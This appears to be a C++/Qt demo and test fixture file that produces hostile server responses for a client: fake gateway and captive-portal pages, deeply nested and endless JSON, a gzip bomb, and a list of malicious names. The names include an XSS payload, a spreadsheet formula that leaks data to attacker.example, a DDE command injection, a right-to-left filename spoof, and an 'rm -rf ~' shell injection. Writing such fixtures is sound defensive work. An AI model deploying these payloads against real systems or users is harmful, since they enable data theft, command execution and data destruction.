// SPDX-FileCopyrightText: 2026 The Vestibule authors
// SPDX-License-Identifier: MIT

#include "demo/bodies.h"

#include <QtEndian>

#include <array>

namespace Vestibule::Demo {

namespace {

//! The CRC of gzip (RFC 1952, section 8).
quint32 crc32(const QByteArray &bytes)
{
    std::array<quint32, 256> table{};
    for (quint32 index = 0; index < table.size(); ++index) {
        quint32 value = index;
        for (int bit = 0; bit < 8; ++bit)
            value = (value & 1) ? 0xedb88320U ^ (value >> 1) : value >> 1;
        table[index] = value;
    }
    quint32 crc = 0xffffffffU;
    for (const char byte : bytes)
        crc = table[(crc ^ static_cast<unsigned char>(byte)) & 0xffU] ^ (crc >> 8);
    return crc ^ 0xffffffffU;
}

QByteArray littleEndian(quint32 value)
{
    QByteArray bytes(4, '\0');
    qToLittleEndian(value, bytes.data());
    return bytes;
}

//! qCompress writes a length and a zlib stream; gzip has another head and tail around the same
//! deflated data, and so no library is needed for it.
QByteArray gzip(const QByteArray &bytes)
{
    constexpr qsizetype qtAndZlibHead = 4 + 2;
    constexpr qsizetype adlerTail = 4;
    const QByteArray packed = qCompress(bytes);
    const QByteArray head("\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff", 10);
    return head + packed.mid(qtAndZlibHead, packed.size() - qtAndZlibHead - adlerTail)
        + littleEndian(crc32(bytes)) + littleEndian(quint32(bytes.size()));
}

} // namespace

QByteArray badGatewayPage()
{
    return "<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>\n"
           "<body><center><h1>502 Bad Gateway</h1></center><hr><center>cloudflare</center>"
           "</body></html>\n";
}

QByteArray timeoutPage()
{
    return "<!DOCTYPE html>\n<html><head><title>524: A timeout occurred</title></head>\n"
           "<body><h1>A timeout occurred</h1><p>The origin web server did not answer in time."
           "</p></body></html>\n";
}

QByteArray portalPage()
{
    return "<!DOCTYPE html>\n<html><head><title>Welcome to Hotel Vestibule</title></head>\n"
           "<body><form action=\"/login\"><p>Please accept the terms to use the internet.</p>"
           "<input name=\"room\"><button>Accept</button></form></body></html>\n";
}

QByteArray deepBody()
{
    constexpr qsizetype depth = 100'000;
    return "{\"connections\":" + QByteArray(depth, '[') + QByteArray(depth, ']')
        + ",\"start\":0,\"limit\":50,\"total\":1}";
}

QByteArray endlessBody()
{
    QByteArray body = "{\"connections\":[";
    const qsizetype head = body.size();
    for (int index = 0; body.size() < head + 65'536; ++index) {
        body += "{\"connection_id\":\"con_" + QByteArray::number(index).rightJustified(16, '0')
            + "\",\"assign_membership_on_login\":false,\"show_as_button\":true,"
              "\"is_enabled\":true,\"organization_access_level\":\"none\","
              "\"connection\":{\"name\":\"row\",\"strategy\":\"okta\"}},";
    }
    return body;
}

QByteArray gzipBombBody()
{
    static const QByteArray bomb = gzip("{\"connections\":[" + QByteArray(100'000'000, ' ')
                                        + "],\"start\":0,\"limit\":50,\"total\":0}");
    return bomb;
}

std::string hostileName(size_t index)
{
    static const std::array<std::string, 10> names{
        "<img src=x onerror=alert(1)><b>bold</b>",
        "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")",
        "+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "invoice\xE2\x80\xAEgnp.exe", // U+202E, right-to-left override
        std::string("bell\x07 escape\x1b[31m nul\0 end", 26),
        "first line\nsecond line\r\nthird\tcell,\"quoted\"",
        std::string(4000, 'W'),
        "&lt;script&gt; %1 %2 %n $(id) `id` ; rm -rf ~",
    };
    return names.at(index % names.size());
}

} // namespace Vestibule::Demo
